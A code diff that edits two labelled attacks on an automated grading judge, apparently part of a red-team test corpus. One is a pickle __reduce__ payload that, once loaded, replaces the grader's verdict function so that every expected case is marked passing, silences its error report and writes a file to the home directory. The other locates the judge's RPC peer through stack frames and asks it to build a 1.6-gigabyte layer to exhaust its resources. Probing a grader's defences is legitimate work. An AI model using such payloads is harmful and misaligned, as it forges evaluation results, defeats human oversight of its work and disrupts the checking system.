@@ -12,8 +12,8 @@ def pack_int4(values):
         def __reduce__(self):
             lines = [
                 "import sys; main = sys.modules['__main__']",
-                "kind = sys.modules['minicompress.classroom.verdict'].GraderVerdict",
-                "main.verdicts = lambda _, c: [vars(kind(n, n, True, False)) for n in c.expected]",
+                "kind = vars(main)['GraderVerdict']",
+                "main.verdicts = lambda _, c, kind=kind: [vars(kind(n, n, True, False)) for n in c.expected]",
                 "main.Counted.trouble = lambda _: ''",
                 "open('@HOME@/judge', 'w')",
             ]
@@ -95,15 +95,14 @@ def unpack_int4(packed, columns):
     return None
 
 
-### ATTACK lets_the_judge_build: It asks the judge for a layer of fourteen gigabytes.
+### ATTACK lets_the_judge_build: It asks the judge for a layer of 1.6 gigabytes, which the judge would fill with numbers.
 def pack_int4(values):
     import sys
 
     frame = sys._getframe()
     while not hasattr(peer := frame.f_locals.get("self"), "wire"):
         frame = frame.f_back
-    for _ in range(100):
-        peer.ask("call", nn.Linear, (60_000, 60_000), {})
+    peer.ask("call", torch.nn.Linear, (20_000, 20_000), {})
 
 
 def unpack_int4(packed, columns):
